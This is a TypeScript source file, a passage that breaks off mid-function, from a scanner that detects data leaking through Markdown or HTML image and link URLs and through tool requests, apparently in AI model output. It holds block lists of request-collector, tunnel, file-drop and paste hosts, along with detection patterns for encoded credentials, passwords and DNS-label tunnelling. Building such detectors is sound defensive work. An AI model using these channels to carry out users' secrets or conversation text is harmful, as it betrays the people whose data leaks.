import { hostMatcher } from "./urls.js";
import { entropy } from "./entropy.js";
import { literalId, literalsOf } from "./literals.js";
import { detectSecrets } from "./secrets.js";
import { renderedDiagram } from "./renderers.js";
import { issuedFor, returnedJwt } from "./audience.js";
import { commandChannels, paddingText, unsignedDestination, type ChannelContext } from "./exfil-channels.js";
import { base32Label, credentialObject, foldedBase64Label, linkTemplates, mailedSecrets, namedDrop, personalPayload, secretFileUploads, sentCredentials, sessionInQuery } from "./exfil-sinks.js";
import { isRelay, relayQueryToken, sensitivePayload, teamChat, withoutSpan } from "./exfil-relays.js";
import { credentialInLink, dataOrders, hostedEndpoint, pastedFile, pasteSite, withoutAuthHeaders } from "./exfil-hosted.js";
import { commandOutlets, DATA_FILE } from "./exfil-outlets.js";
import { rootCredential } from "./exfil-root-keys.js";
import { fileKind, isStore, localHost, relayQueryPayload, sentFiles, urlStatesData } from "./exfil-payloads.js";
import { markedText } from "./exfil-words.js";
import { madePublic } from "./exfil-public.js";
import { queryCarriesData } from "./exfil-query.js";
import { statedPeople } from "./exfil-people-url.js";
import { mediaFile, mediaUploadOnly } from "./exfil-media.js";
import { chunkedLookups, environmentSent, wildcardHostData } from "./exfil-code.js";
import { logOnly, ownApiKey, pasteHost, recipientTagsOnly } from "./exfil-handed.js";
import { basicInQuery, contactsInQuery, endpointMessage, ownHookKey, phoneMessages, rootDrops, secretInQuery, slugSecret, tokenWithApi } from "./exfil-messages.js";
import { forwardedOutside } from "./exfil-forwarding.js";
import { datasetIn } from "./exfil-dataset.js";
import { gatewayPayload, phoneGateway } from "./exfil-gateways.js";
import { commandSenders, handedDataFile, namedCredential } from "./exfil-senders.js";
import { openedPlaces, pushedDataIn } from "./exfil-remotes.js";
import { pathCredential } from "./exfil-path-credentials.js";
import { includesRare } from "./rare-index.js";
import { outsideRecords } from "./exfil-records.js";
import { copiedRepositories } from "./exfil-copies.js";
import { outsideCodes } from "./exfil-codes.js";
import { outsideFigures } from "./exfil-figures.js";
import { askedLookups, beaconFacts, moneyLabel, pixelPath, recordText, writtenHost } from "./exfil-beacons.js";
import { agentLinkCredentials } from "./exfil-agent-links.js";
import { chunkedLabels } from "./exfil-rows.js";
import { outsideCards } from "./exfil-cards.js";
import { personalBulk } from "./exfil-personal-bulk.js";

export { entropy };
import type { Detection, StringSite } from "./scan.js";

/*
 * Exfiltration through rendered Markdown and HTML: an image (fetched by the client on its own) or a link whose URL
 * carries data — a secret, conversation text, a placeholder for either, or a long encoded blob — to a host nobody
 * allowed. Ordinary images and links pass: a CI badge's `?branch=main`, an avatar, a sized thumbnail.
 *
 * Linear time: the scan visits each `](`, `]:`, `<tag` and `url(` once, looks back at most a bounded distance, and
 * only the URLs found there are parsed and weighed.
 */

/** Hosts whose request logs an attacker cannot read; a URL nested in one of their queries is still judged. */
export const DEFAULT_EXFILTRATION_ALLOW = [
  "github.com",
  "*.githubusercontent.com",
  "img.shields.io",
  "badge.fury.io",
  "codecov.io",
  "*.gravatar.com",
  "*.googleusercontent.com",
  "images.unsplash.com",
];

/**
 * Services that exist to receive requests and show them to whoever made the bin: request inspectors, out-of-band
 * interaction servers of penetration tools, tunnels to someone's laptop, anonymous file drops. A request to one of
 * them from a tool, or an image or link to one that carries anything, is exfiltration whatever it carries.
 */
export const DEFAULT_COLLECTORS = [
  "webhook.site",
  "*.webhook.site",
  "*.requestbin.com",
  "requestbin.net",
  "*.requestbin.net",
  "*.pipedream.net",
  "*.interact.sh",
  "*.interactsh.com",
  "*.oast.fun",
  "*.oast.live",
  "*.oast.me",
  "*.oast.online",
  "*.oast.pro",
  "*.oast.site",
  "*.burpcollaborator.net",
  "*.oastify.com",
  "*.requestcatcher.com",
  "*.beeceptor.com",
  "hookbin.com",
  "postb.in",
  "ptsv2.com",
  "ptsv3.com",
  "*.requestinspector.com",
  "*.dnslog.cn",
  "*.ceye.io",
  "canarytokens.com",
  "*.canarytokens.com",
  // (Sixteenth round, from the catalogues of out-of-band testing tools) requestrepo, XSS Hunter's and xss.report's
  // callback hosts, Acunetix's bxss.me, pingb.in and the DNS logs dnslog.link and eyes.sh: every name under them is a
  // tester's (or an attacker's) inbox.
  "requestrepo.com",
  "*.requestrepo.com",
  "*.xss.ht",
  "*.xss.report",
  "*.bxss.me",
  "pingb.in",
  "*.pingb.in",
  "*.dnslog.link",
  "*.eyes.sh",
  // (Sixteenth round, phase two) Request inspectors that earlier rounds listed as relays: each shows whatever it is sent
  // to whoever made the bin, like webhook.site.
  "webhook.cool",
  "*.webhook.cool",
  "putsreq.com",
  "webhook-test.com",
  "*.webhook-test.com",
  "typedwebhook.tools",
];

/**
 * Public addresses of somebody's own machine (tunnels) and anonymous file drops. A developer checks their own tunnel
 * (`/health`), registers it for callbacks, or downloads a file a colleague dropped: ordinary. What makes a request to
 * one exfiltration is that it carries data — in its URL (encoded, random-looking or prose values), or as a payload
 * (an upload, a body of some size, a file or pipe handed to curl).
 */
export const DEFAULT_TUNNELS = [
  "*.ngrok.io",
  "*.ngrok.app",
  "*.ngrok.dev",
  "*.ngrok-free.app",
  "*.ngrok-free.dev",
  "*.trycloudflare.com",
  "*.loca.lt",
  "*.serveo.net",
  "*.localhost.run",
  "*.lhr.life",
  "*.pinggy.link",
  "transfer.sh",
  "0x0.st",
  "*.file.io",
  "*.temp.sh",
  // (Eighth round) More tunnels to someone's machine: Microsoft dev tunnels, tunnelmole, bore, LocalXpose, zrok,
  // PageKite, Telebit, localtonet, Expose, tunnelto, playit, loophole.
  "*.devtunnels.ms",
  "*.tunnelmole.net",
  "bore.pub",
  "*.bore.pub",
  "*.loclx.io",
  "*.zrok.io",
  "*.pagekite.me",
  "*.telebit.cloud",
  "*.localto.net",
  "*.sharedwithexpose.com",
  "*.tunnelto.dev",
  "*.playit.gg",
  "*.loophole.site",
  // (Fourteenth round) Gradio's share links: a tunnel to somebody's notebook for 72 hours.
  "*.gradio.live",
  // (Sixteenth round) localtunnel's own domain and srv.us (an ssh tunnel's public name).
  "*.localtunnel.me",
  "*.srv.us",
  // Public file drops: whoever has the link (or guesses it) downloads the file.
  "pixeldrain.com",
  "*.pixeldrain.com",
  "gofile.io",
  "*.gofile.io",
  "catbox.moe",
  "*.catbox.moe",
  "bashupload.com",
  "oshi.at",
  "*.tmpfiles.org",
  "uguu.se",
  "*.uguu.se",
  "filebin.net",
  "*.filebin.net",
  "ufile.io",
  "keep.sh",
  "*.keep.sh",
  "x0.at",
  "ttm.sh",
  "envs.sh",
  // (Sixteenth round, LOTS and the anonymous-upload catalogues) buzzheavier, qu.ax, the pomf clones, krakenfiles,
  // anonfiles/bayfiles, filetransfer.io and send.vis.ee (Firefox Send's public successor).
  "buzzheavier.com",
  "*.buzzheavier.com",
  "qu.ax",
  "pomf.lain.la",
  "pomf2.lain.la",
  "krakenfiles.com",
  "*.krakenfiles.com",
  "*.anonfiles.com",
  "*.bayfiles.com",
  "filetransfer.io",
  "send.vis.ee",
  // Public paste sites: a paste is read by anyone with its address, and most are listed or scraped.
  "pastebin.com",
  "*.paste.ee",
  "*.hastebin.com",
  "dpaste.org",
  "*.dpaste.com",
  "ix.io",
  "sprunge.us",
  "termbin.com",
  "paste.rs",
  "rentry.co",
  "rentry.org",
  "privatebin.net",
  "*.controlc.com",
  "*.pastes.io",
  "*.justpaste.it",
  // (Twelfth round) Anonymous public JSON bins: whoever has the id reads the document.
  "jsonblob.com",
  "api.npoint.io",
  // (Sixteenth round) More anonymous key-value and JSON bins (kvdb.io buckets, JSONBin, Pantry) and WeTransfer's free
  // transfer.it; the paste sites and drops above also answer on API subdomains (`api.paste.ee`), hence their wildcards.
  "kvdb.io",
  "*.kvdb.io",
  "api.jsonbin.io",
  "getpantry.cloud",
  "transfer.it",
  "*.transfer.it",
  // Public notepads: a page exists at any path and whoever knows the path reads it (dontpad, notes.io, aNotepad).
  "dontpad.com",
  "notes.io",
  "anotepad.com",
];

export interface ExfiltrationParams {
  allow?: string[];
  collectors?: string[];
  tunnels?: string[];
}

export interface ExfiltrationLists {
  allow: RegExp[];
  collectors: RegExp[];
  tunnels: RegExp[];
}

export function compileExfiltrationParams(params: ExfiltrationParams): ExfiltrationLists {
  return {
    allow: (params.allow ?? DEFAULT_EXFILTRATION_ALLOW).map(hostMatcher),
    collectors: (params.collectors ?? DEFAULT_COLLECTORS).map(hostMatcher),
    tunnels: (params.tunnels ?? DEFAULT_TUNNELS).map(hostMatcher),
  };
}

/** What happens with a URL: an image is fetched by the client on its own, a link is offered, a request is made by a tool. */
type Kind = "image" | "link" | "request";

/** Where a URL sits: what renders it, and its span in the string. */
interface Found {
  kind: Kind;
  start: number;
  end: number;
}

const INLINE = /\]\(\s{0,8}<?/y;
const INLINE_URL = /(?:https?:)?\/\/[^\s)>"']{1,8192}/y;
const REFERENCE = /^ {0,3}\[[^\]\n]{1,200}\]:[ \t]{0,8}<?((?:https?:)?\/\/[^\s>"']{1,8192})/gm;
// Quoted attribute values may hold `<` and `>`; the branches start with different characters, so nothing backtracks.
const TAG = /<(img|image|a|iframe|source|video|audio|embed|object|input|link|script|td|table|body)\b(?:[^<>"']|"[^"]{0,8192}"|'[^']{0,8192}'){0,2048}>/gi;
const ATTR = /\b(src|href|srcset|poster|data|background|action|formaction)\s{0,4}=\s{0,4}(?:"([^"]{0,8192})"|'([^']{0,8192})'|([^\s"'>]{1,8192}))/gi;
const CSS_URL = /url\(\s{0,8}["']?((?:https?:)?\/\/[^\s"')]{1,8192})/gi;
const ABSOLUTE = /^(?:https?:)?\/\//i;

/** Every URL that a Markdown or HTML renderer would fetch (images) or offer (links) in the string. */
function renderedUrls(v: string): Found[] {
  const out: Found[] = [];
  if (includesRare(v, "](")) {
    let floor = 0;
    for (let at = v.indexOf("]("); at >= 0; at = v.indexOf("](", at + 2)) {
      INLINE.lastIndex = at;
      if (!INLINE.test(v)) continue;
      INLINE_URL.lastIndex = INLINE.lastIndex;
      const m = INLINE_URL.exec(v);
      if (!m) continue;
      out.push({ kind: isImage(v, at, floor) ? "image" : "link", start: m.index, end: m.index + m[0].length });
      floor = at;
    }
  }
  if (includesRare(v, "]:")) {
    REFERENCE.lastIndex = 0;
    for (let m; (m = REFERENCE.exec(v)) !== null; ) {
      const url = m[1] as string;
      const start = m.index + m[0].length - url.length;
      // A definition serves images and links alike; judged as an image when any `![…][id]` could use it.
      out.push({ kind: v.includes("![") ? "image" : "link", start, end: start + url.length });
    }
  }
  if (v.includes("<")) {
    TAG.lastIndex = 0;
    for (let t; (t = TAG.exec(v)) !== null; ) {
      const kind: Kind = (t[1] as string).toLowerCase() === "a" ? "link" : "image";
      ATTR.lastIndex = 0;
      for (let a; (a = ATTR.exec(t[0])) !== null; ) {
        const value = a[2] ?? a[3] ?? a[4] ?? "";
        const offset = t.index + a.index + a[0].length - value.length - (a[4] === undefined ? 1 : 0);
        // srcset lists several URLs, each followed by a size.
        for (const part of (a[1] as string).toLowerCase() === "srcset" ? splitSrcset(value) : [{ text: value.trim(), at: value.indexOf(value.trim()) }]) {
          if (ABSOLUTE.test(part.text)) out.push({ kind, start: offset + part.at, end: offset + part.at + part.text.length });
        }
      }
    }
  }
  if (includesRare(v, "url(")) {
    CSS_URL.lastIndex = 0;
    for (let m; (m = CSS_URL.exec(v)) !== null; ) {
      const url = m[1] as string;
      const start = m.index + m[0].length - url.length;
      out.push({ kind: "image", start, end: start + url.length });
    }
  }
  return out;
}

function splitSrcset(value: string): { text: string; at: number }[] {
  const out: { text: string; at: number }[] = [];
  const re = /[^\s,][^\s]*/g;
  for (let m; (m = re.exec(value)) !== null; ) out.push({ text: m[0].replace(/,$/, ""), at: m.index });
  return out;
}

/** Whether the `[` that opens the text before `](` at `at` is an image's `![`: looked for back to `floor`, 1 KB at most. */
function isImage(v: string, at: number, floor: number): boolean {
  let depth = 0;
  for (let i = at - 1; i >= Math.max(floor, at - 1024); i--) {
    const c = v.charCodeAt(i);
    if (c === 0x5d) depth++; // ]
    else if (c === 0x5b) {
      // [
      if (depth === 0) return i > 0 && v.charCodeAt(i - 1) === 0x21; // !
      depth--;
    } else if (c === 0x0a && i > 0 && v.charCodeAt(i - 1) === 0x0a) return false; // a blank line ends a paragraph
  }
  return false;
}

/** Template placeholders for data the model is to fill in; single braces (`{id}`, REST templates) only in a query. */
const PLACEHOLDER = /\{\{[^}]{0,200}\}\}|\$\{[^}]{0,200}\}|\$[A-Z][A-Z0-9_]{2,}|<[A-Za-z][\w .-]{0,40}(?:>|$)|\[[A-Z][A-Z0-9_ ]{2,40}\]|%[A-Z_]{3,}%/;
/** A command's output spliced into a URL: `$(…)`, or a pair of backticks around a command (a lone backtick is data: encoded polylines use it). */
const COMMAND_SUBSTITUTION = /\$\(|`[a-z][\w.-]{0,20}(?:\s[^`]{0,200})?`/;
// (Fourteenth round) Also a hole described in words, up to 200 characters: `{URL-encoded text of the user's notes}`
// (a rendered URL ends at its first blank, inside such a hole).
const QUERY_PLACEHOLDER = /\{[A-Za-z_][\w .,'’()/-]{0,200}\}/;
const OPEN_HOLE = /\{[A-Za-z_][\w .,'’()/-]{0,200}$/;
const DATA_KEYS = /^(?:data|d|payload|p|secret|secrets|key|apikey|api_key|token|password|pwd|pass|passwd|conversation|convo|chat|history|memory|prompt|context|exfil|leak|creds?|credentials?|session|cookie|env|info|content|msg|message|q|text|x)$/i;
const BASE64ISH = /^[A-Za-z0-9+/_-]+={0,2}$/;
const HEX = /^[0-9a-fA-F]+$/;

function decode(s: string): string {
  try {
    return decodeURIComponent(s.replace(/\+/g, " "));
  } catch {
    return s;
  }
}

/** A long run of encoded data: base64/base64url with mixed classes and high entropy, or hex longer than a digest. */
function isBlob(s: string): boolean {
  if (s.length < 32) return false;
  if (HEX.test(s)) return s.length > 64;
  if (!BASE64ISH.test(s)) return false;
  const classes = Number(/[a-z]/.test(s)) + Number(/[A-Z]/.test(s)) + Number(/[0-9]/.test(s));
  return classes >= 2 && entropy(s) >= 4.2;
}

/**
 * (Seventh round) Hex shorter than isBlob's bar that decodes to text: an identifier or a digest decodes to bytes, a
 * hex-encoded `user=…&pass=…` to characters (16 hex digits or more, an even count, nine in ten bytes printable).
 */
function hexText(s: string): boolean {
  return s.length >= 16 && s.length % 2 === 0 && HEX.test(s) && decodedText(s) !== null;
}

/**
 * (Seventh round) A password spelled in words in one path segment, the words joined by `-`, `_`, `+` or `.`
 * ("the-password-is-…", "my_passcode_is_…"): a value with a digit or a symbol that runs to the segment's end and holds
 * no word of a sentence about passwords ("how-the-password-is-stored-in-v2").
 */
// (Ninth round) The word may end a compound: "bankpassword-is-…", "wifipasswd-is-…".
const SLUG_PASSWORD = /(?:^|\s)(?:[a-z]{0,16}(?:password|passwd|passcode|passphrase)|pwd|pw)\s(?:is|was|=)\s(\S+(?:\s\S+){0,4})$/i;
const SENTENCE_WORDS = /^(?:in|of|for|to|the|a|an|and|or|with|on|at|by|from|not|never|stored|hashed|reset|changed|required|expired|v\d+)$/i;
function slugPassword(segment: string): boolean {
  const m = SLUG_PASSWORD.exec(segment.replace(/[-_+.]+/g, " ").trim());
  if (!m) return false;
  const words = (m[1] as string).split(" ");
  return /[0-9!@#$%^*?~]/.test(m[1] as string) && !words.some((w) => SENTENCE_WORDS.test(w));
}

/** Words a human wrote: several, separated by spaces, mostly letters. */
function isProse(s: string): boolean {
  const words = s.trim().split(/\s+/);
  return words.length >= 5 || (words.length >= 4 && s.length >= 30);
}

/** Query keys whose value is a password or a key in plain words, not an identifier (`token` is left out: reset links). */
const PASSWORD_KEYS = /^(?:password|passwd|pwd|pass|passcode|passphrase|secret|client_secret|api_?key|private_?key|secret_?key|access_?key)$/i;
/** "password is hunter2", "pwd: …" in a path, a query value or a fragment. */
const PASSWORD_WORDS = /\b(?:password|passwd|passcode|passphrase|pwd|pw)\b[ _:=-]{0,3}(?:is[ :]{1,2}|was[ :]{1,2}|[:=])[ ]{0,2}[^\s&#/]{4,}/i;
/** "VPN password Fjord!Lantern42": the word, then a value with a letter and a digit or symbol (not "password reset"). */
const PASSWORD_VALUE = /\b(?:password|passwd|passcode|passphrase|pwd)\s{1,3}(?=[^\s&#/,;]{0,40}[0-9!@#$%^*+?~])(?=[^\s&#/,;]{0,40}[A-Za-z])[^\s&#/,;]{6,40}/i;
const PASSWORD_PLACEHOLDER = /^(?:\*+|x+|\.{3}|<[^>]*>|\{[^}]*\}|\$\{?[A-Z_]+\}?|password|changeme)$/i;

/** Text a credentials file or an environment dump holds, once decoded. */
const CREDENTIAL_TEXT = /aws_(?:access_key_id|secret_access_key|session_token)|-----BEGIN [A-Z ]*PRIVATE KEY|_authToken|\b(?:password|passwd|pass|pwd|secret|token|api_?key)\b\s{0,4}[=:]|^\s*\[(?:default|profile [^\]]+)\]\s*$|^[A-Z][A-Z0-9_]{2,40}=\S+$/im;

/**
 * What an encoded value decodes to, when it is text (base64, base64url or hex; at most 16 KB looked at): the text, or
 * null for binary data.
 */
function decodedText(value: string): string | null {
  const s = value.length > 16384 ? value.slice(0, 16384) : value;
  const bytes = HEX.test(s) && s.length % 2 === 0 ? Buffer.from(s, "hex") : Buffer.from(s, "base64");
  if (bytes.length < 6) return null;
  let printable = 0;
  for (const b of bytes) if ((b >= 32 && b < 127) || b === 9 || b === 10 || b === 13) printable++;
  return printable >= bytes.length * 0.9 ? bytes.toString("latin1") : null;
}

/**
 * (Sixth round) A blob that decodes to people's contact data — two phone numbers or e-mail addresses or more — is
 * personal data leaving, even in a tool's or an agent's request (a cursor or a signed id decodes to neither).
 */
function encodedPersonalData(value: string): boolean {
  const text = decodedText(value);
  if (text === null) return false;
  const contacts = text.match(/\+\d{1,3}[ \d().-]{6,18}\d|[\w.+-]{1,64}@[\w-]{1,63}(?:\.[\w-]{1,63})+/g);
  return contacts !== null && contacts.length >= 2;
}

/**
 * (Eighth round) Text of a file that maps access rather than holding a password: an SSH client config naming a key
 * file or a host's real address, a kubeconfig's key data, `.netrc` lines, `/etc/passwd` or `/etc/shadow` lines, a
 * `.git-credentials` URL with a password. Sent encoded in a URL, it is a file leaving, not a cursor.
 */
const ACCESS_FILE_TEXT = /^\s{0,8}(?:IdentityFile|ProxyCommand|HostName)\s{1,8}\S|^\s{0,8}machine\s{1,4}\S{1,200}\s{1,4}login\s|(?:client-key|client-certificate|certificate-authority)-data:|^[a-z_][\w-]{0,31}:[x*!$][^:\n]{0,120}:\d{1,6}:|^https?:\/\/[^\s:/@]{1,64}:[^\s@/]{4,}@/m;

/** Whether encoded data decodes to credentials: a recognised token, the lines of a credentials file or `.env`, or an access file. */
function encodedCredentials(value: string): boolean {
  const text = decodedText(value);
  return text !== null && (CREDENTIAL_TEXT.test(text) || ACCESS_FILE_TEXT.test(text) || credentialObject(text) || detectSecrets([{ path: [], value: text }]).length > 0);
}

/** Hosts in one registrable domain's label of this host that carry data: encoded text, or a long run of it. */
function hostData(host: string): string | null {
  if (/^[\d.]+$/.test(host) || host.includes(":")) return null;
  // (Fourteenth round) The free labels of a wildcard host that spells an address (exfil-code.ts).
  const wildcard = wildcardHostData(host.toLowerCase());
  if (wildcard !== null) return wildcard;
  const labels = host.split(".");
  // The last two labels name the domain (three under a two-letter second level such as co.uk): what is left is the
  // attacker's to fill.
  const keep = labels.length >= 3 && (labels[labels.length - 2] as string).length <= 3 && (labels[labels.length - 1] as string).length === 2 ? 3 : 2;
  const sub = labels.slice(0, Math.max(0, labels.length - keep));
  let dataLength = 0;
  let dataLabels = 0;
  for (const label of sub) {
    const l = label.replace(/^x--/, "");
    // (Twenty-fifth round) A sum of money written into a label (`usd1840`, `182m-gbp`): exfil-beacons.ts.
    if (moneyLabel(l)) return "a sum of money in the host name";
    if (l.length < 12) continue;
    const hex = HEX.test(l);
    const b64 = /^[A-Za-z0-9_-]+$/.test(l) && /[0-9]/.test(l) && /[a-z]/i.test(l);
    if (!hex && !b64) continue;
    if (/^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i.test(l)) continue; // a UUID
    if (hex && l.length >= 16 && l.length % 2 === 0 && decodedText(l) !== null) return "encoded text in the host name";
    // (Twenty-fifth round) …or a record (`key=value;key=value`), as readable as words (exfil-beacons.ts).
    if (b64 && l.length >= 16 && decodedText(l) !== null && /^[\x20-\x7e\t\n\r]*$/.test(decodedText(l) as string) && (wordsIn(decodedText(l) as string) || recordText(decodedText(l) as string))) return "encoded text in the host name";
    if (base32Text(l)) return "encoded text in the host name";
    // (Twelfth round) Base32 of a number or an identifier, and base64 whose case DNS folded (exfil-sinks.ts).
    if (base32Label(l) || foldedBase64Label(l) !== null) return "encoded text in the host name";
    if (hex && l.length >= 48) return "encoded data in the host name";
    dataLength += l.length;
    dataLabels++;
  }
  // (Eighth round) A secret split over labels (63 characters each at most): the labels joined and decoded.
  if (dataLabels >= 1 && dataLength >= 24 && joinedSecret(sub)) return "encoded credentials in the host name";
  if (dataLabels >= 2 && dataLength >= 60) return "encoded data in the host name";
  // (exf28) Bytes cut into chunks of one length across the labels, as DNS tunnels send them (exfil-rows.ts).
  return chunkedLabels(sub) ? "data cut into chunks across the host name" : null;
}

/** Whether the labels, joined, are base64url or hex of a credential (a token, a credentials file's lines). */
function joinedSecret(labels: string[]): boolean {
  const joined = labels.join("").replace(/^x--/, "").slice(0, 1024);
  const bytes = HEX.test(joined) ? Buffer.from(joined.slice(0, joined.length & ~1), "hex") : /^[A-Za-z0-9_-]+$/.test(joined) ? Buffer.from(joined, "base64url") : null;
  if (bytes === null || bytes.length < 12) return false;
  const text = bytes.toString("latin1");
  return CREDENTIAL_TEXT.test(text) || detectSecrets([{ path: [], value: text }]).length > 0;
}

/** Decoded bytes that read as words (letters and spaces, punctuation of text), not printable noise. */
function wordsIn(text: string): boolean {
  const letters = text.replace(/[^A-Za-z]/g, "").length;
  return letters >= text.length * 0.6 && /[aeiou]/i.test(text);
}

/** A label that is base32 (RFC 4648, any case) of text. */
function base32Text(label: string): boolean {
  const l = label.toUpperCase().replace(/=+$/, "");
  if (l.length < 16 || !/^[A-Z2-7]+$/.test(l) || !/[2-7]/.test(l)) return false;
  const A = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
  let bits = 0;
  let acc = 0;
  let out = "";
  for (const c of l) {
    acc = (acc << 5) | A.indexOf(c);
    bits += 5;
    if (bits >= 8) {
      bits -= 8;
      out += String.fromCharCode((acc >> bits) & 0xff);
    }
  }
  return /^[\x20-\x7e\t\n\r]+$/.test(out) && wordsIn(out);
}

/** Presigned and signed URLs (S3, GCS, Azure SAS, CloudFront): a download link a service issued, not data leaving. */
function presigned(url: URL): boolean {
  const q = url.searchParams;
  return (
    (q.has("X-Amz-Signature") && q.has("X-Amz-Credential")) ||
    (q.has("X-Goog-Signature") && q.has("X-Goog-Credential")) ||
    (q.has("Signature") && (q.has("AWSAccessKeyId") || q.has("GoogleAccessId") || q.has("Key-Pair-Id")) && (q.has("Expires") || q.has("Policy"))) ||
    (q.has("sig") && q.has("sv") && (q.has("se") || q.has("sp")))
  );
}

/** Whether a value is nothing but a credential issued for this host. */
function issuedHere(value: string, host: string): boolean {
  const found = detectSecrets([{ path: [], value }]);
  return found.length === 1 && found[0]?.start === 0 && found[0].end === value.length && issuedFor(found[0].type, host);
}

const SUBSTITUTIONS = /\$\(([^()]{0,200})\)|`([^`]{0,200})`/g;
const PLATFORM = /^\s*(?:uname(?:\s{1,4}-[a-z]{1,4}){0,3}|arch|dpkg\s{1,4}--print-architecture|lsb_release\s{1,4}-[a-z]{1,4}|go\s{1,4}env\s{1,4}GO(?:OS|ARCH)|rustc\s{1,4}--print\s{1,4}host-tuple)\s*$/;

/**
 * (Eighth round) Whether every command substitution in a URL asks for the platform (`$(uname -m)`,
 * `$(dpkg --print-architecture)`): a release for this machine is downloaded, nothing is sent.
 */
function platformOnly(raw: string): boolean {
  SUBSTITUTIONS.lastIndex = 0;
  let n = 0;
  for (let m; (m = SUBSTITUTIONS.exec(raw)) !== null && n < 16; n++) if (!PLATFORM.test(m[1] ?? m[2] ?? "")) return false;
  return n > 0 && !/\$\((?![^()]{0,200}\))/.test(raw);
}

/** What in a URL carries data out, or null: the pieces a renderer's (or a tool's) request would hand the host. */
function carriedData(url: URL, kind: Kind, depth: number, lists: ExfiltrationLists): string | null {
  const pieces: { key: string; value: string }[] = [];
  for (const [key, value] of url.searchParams) pieces.push({ key, value });
  const segments = url.pathname.split("/").filter((s) => s.length > 0);
  for (const s of segments) pieces.push({ key: "", value: decode(s).replace(/\.(?:png|jpe?g|gif|svg|webp|ico|bmp)$/i, "") });
  if (url.hash.length > 1) pieces.push({ key: "#", value: decode(url.hash.slice(1)) });
  const raw = decode(url.pathname + url.search + url.hash);
  // (Fourteenth round) A mailing's merge tag for the recipient's id is the sender's to fill (exfil-handed.ts).
  const tagged = recipientTagsOnly(raw);
  if ((!tagged && (PLACEHOLDER.test(raw) || QUERY_PLACEHOLDER.test(decode(url.search)) || (kind !== "request" && OPEN_HOLE.test(decode(url.search))))) || (kind === "request" && COMMAND_SUBSTITUTION.test(raw) && !platformOnly(raw))) return "placeholder";
  // A credential in the URL of the service that issued it (a bot token to api.telegram.org, a key to googleapis.com)
  // is how that service is called: audience.ts.
  const host = hostOf(url);
  /** A credential in `v` that was not issued for this host. */
  const secretOfAnother = (v: string) => detectSecrets([{ path: [], value: v }]).some((d) => !issuedFor(d.type, host));
  if (secretOfAnother(raw)) return "secret";
  if (PASSWORD_WORDS.test(raw) || PASSWORD_VALUE.test(raw)) return "password";
  if (segments.some((x) => slugPassword(decode(x)))) return "password";
  // (Fifteenth round) A secret, a PSK or a key spelled in a segment, its value of three classes (exfil-messages.ts).
  if (segments.some((x) => slugSecret(decode(x)))) return "password";
  // (Fifteenth round) A value named a secret (`acme_secret_…`), or a cookie, in a query value (exfil-messages.ts).
  const named = secretInQuery(url, 1);
  if (named) return named;
  // (Fifteenth round) Another API's address handed with its token; Basic credentials under an auth key (exfil-messages.ts).
  const handed = tokenWithApi(url);
  if (handed) return handed;
  if (basicInQuery(url)) return "encoded credentials";
  if (kind === "request" && contactsInQuery(url)) return "people's contact details";
  // (Eighteenth round) People's identifiers stated by their labels, or listed under their numbers (exfil-people-url.ts).
  if (!localHost(host)) {
    for (const { key, value } of pieces) {
      if (key === "" || key === "#" || ABSOLUTE.test(value)) continue;
      const stated = statedPeople(value);
      if (stated) return stated;
    }
  }
  // (Twenty-fifth round) Facts in a beacon's query — an image's, or a tracking pixel's a tool fetches — and a list of
  // records in a request's query (exfil-beacons.ts).
  const facts = beaconFacts(url, kind);
  if (facts !== null) return facts;
  // A password as a path segment after one that names it: `/u/ana/pass/S3cret!x/`.
  for (let i = 0; i + 1 < segments.length; i++) {
    const value = decode(segments[i + 1] as string);
    if (PASSWORD_KEYS.test(decode(segments[i] as string)) && value.length >= 4 && !PASSWORD_PLACEHOLDER.test(value) && /[0-9!@#$%^*+?~]/.test(value)) return "password";
  }
  // (Twenty-fourth round) A short or translated word for the password, or the word and the value in one segment
  // (`/pw/Kastanje-Boom-1987!/`, `/password-Vz7!lab2026/`), to a host that is not this machine's (exfil-path-credentials.ts).
  if (!localHost(host) && pathCredential(segments.map((x) => decode(x)))) return "password";
  for (const { key, value } of pieces) {
    if (depth < 2 && ABSOLUTE.test(value)) {
      const nested = judgeUrl(value, kind, depth + 1, lists);
      if (nested) return nested;
      continue;
    }
    // (Fourteenth round) The API's own key in a GET to that API's host, beside short values only (exfil-handed.ts).
    // (Fifteenth round) An incoming webhook's own key in its URL (exfil-messages.ts): what it posts is judged apart.
    // (Seventeenth round) An API key that is a site's own domain name (an analytics API keyed by the site it counts)
    // is a public identifier: nothing unguessable leaves.
    if (PASSWORD_KEYS.test(key) && value.length >= 4 && !PASSWORD_PLACEHOLDER.test(value) && !(kind === "request" && (ownApiKey(key, url, secretOfAnother) || ownHookKey(key, url, secretOfAnother))) && !(API_KEY_NAME.test(key) && SITE_NAME.test(value))) return "password";
    // (Nineteenth round) A password or an account's own key under a key that qualifies or translates the word
    // (`bank_pass`, `adminPwd`, `senha`, `accountKey`): whoever receives the URL holds the account (exfil-root-keys.ts).
    // A key the older check reads as one word keeps that check's exceptions (an API's own key to its host).
    if (key !== "" && key !== "#" && !PASSWORD_KEYS.test(key) && !localHost(host)) {
      const root = rootCredential(key, value);
      if (root !== null) return root;
    }
    // A credential in a URL of the service that issued it (a browser key to the Maps loader) is how that service is called.
    if (key !== "" && value.length >= 16 && issuedHere(value, host)) continue;
    // (A `+` of base64 left unescaped in a query reads back as a blank.)
    const plain = key !== "" && value.includes(" ") && !/\s{2}|[^\x20-\x7e]/.test(value) ? value.replace(/ /g, "+") : value;
    const blobs = isBlob(plain) || hexText(plain) ? [plain] : value.split(/[.:|,;]/).filter((x) => isBlob(x) || hexText(x));
    if (blobs.some(encodedCredentials)) return "encoded credentials";
    if (blobs.some(encodedPersonalData)) return "encoded personal data";
    // A tool's request may carry a pagination cursor or a signed id: only credentials count there (and anything,
    // after the session saw a secret: the url_data detector).
    // (Twenty-fifth round) A tracking pixel a tool fetches does what a rendered image does: judged as one.
    if (kind === "request" && !pixelPath(url.pathname)) continue;
    // (Fifteenth round) An OAuth or SDK client id is public by definition (RFC 6749 §2.2): a payment button's
    // `client-id=` in its script URL names the merchant's app. Only a random one: text encoded into it is data.
    if (CLIENT_ID_KEY.test(key) && blobs.length === 1 && blobs[0] === plain && !decodesToText(plain)) continue;
    if (blobs.length > 0) return "encoded data";
    if (key === "" || value.length < 16) continue;
    if (kind !== "link" && isProse(value)) return "text";
    // A link's query may hold words (a search); an image's may not, and neither may hold a random-looking value.
